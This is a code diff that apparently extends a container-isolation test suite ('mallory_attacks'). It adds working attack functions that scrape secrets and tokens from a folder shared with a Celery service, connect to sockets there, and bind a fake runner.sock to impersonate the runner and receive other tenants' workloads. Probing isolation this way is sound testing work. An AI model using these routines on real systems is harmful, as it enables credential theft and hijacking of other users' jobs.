@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import contextlib
 import os
+import socket
 import subprocess
 import sys
 from pathlib import Path
@@ -12,6 +13,7 @@ from mallory_attacks import loot
 from mallory_attacks.attack import Facts, Refused, attack
 
 LOAD_TIMEOUT_S = 60
+LISTEN_S = 10.0
 MOST_OF_A_FILE = 1 << 22
 
 
@@ -140,3 +142,54 @@ def remove_the_agents_heartbeat(facts: Facts) -> str:
     path.rename(path.with_suffix(".mallory"))
     path.with_suffix(".mallory").rename(path)
     return "moved away and back"
+
+
+def _shared_folder() -> Path:
+    folder = os.environ.get("SHARED_FOLDER") or os.environ.get("FLEET_SHARED_FOLDER")
+    if not folder:
+        raise Refused("its container shares no folder with another")
+    return Path(folder)
+
+
+@attack
+def secrets_in_the_shared_folder(facts: Facts) -> str:
+    """Find secrets or tokens in the folder that its container shares with Celery's."""
+    found: set[str] = set()
+    for path in _shared_folder().rglob("*"):
+        with contextlib.suppress(OSError):
+            data = path.read_bytes()[:MOST_OF_A_FILE] if path.is_file() else b""
+            found |= {*loot.secrets_in(data, facts), *loot.tokens_in(data)}
+    if not found:
+        raise Refused("none in the shared folder")
+    return f"{len(found)} secrets and tokens"
+
+
+@attack
+def connect_to_the_runner(facts: Facts) -> str:
+    """Connect to a socket in the shared folder, to pose as Celery."""
+    for path in _shared_folder().rglob("*"):
+        if path.is_socket():
+            for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
+                with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as client:
+                    client.connect(str(path))
+                    return "connected"
+    raise Refused("no socket in the shared folder accepts")
+
+
+@attack
+def pose_as_the_runner(facts: Facts) -> str:
+    """Listen in the shared folder in the runner's place, to be handed the workloads of others."""
+    folder = _shared_folder()
+    descriptor = os.open(folder, os.O_PATH)
+    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as listener:
+        listener.bind(f"/proc/self/fd/{descriptor}/runner.sock")
+        listener.listen()
+        listener.settimeout(LISTEN_S)
+        try:
+            listener.accept()
+        except TimeoutError:
+            raise Refused(f"no one connected within {LISTEN_S:g} s") from None
+        finally:
+            (folder / "runner.sock").unlink()
+            os.close(descriptor)
+    return "Celery connected"
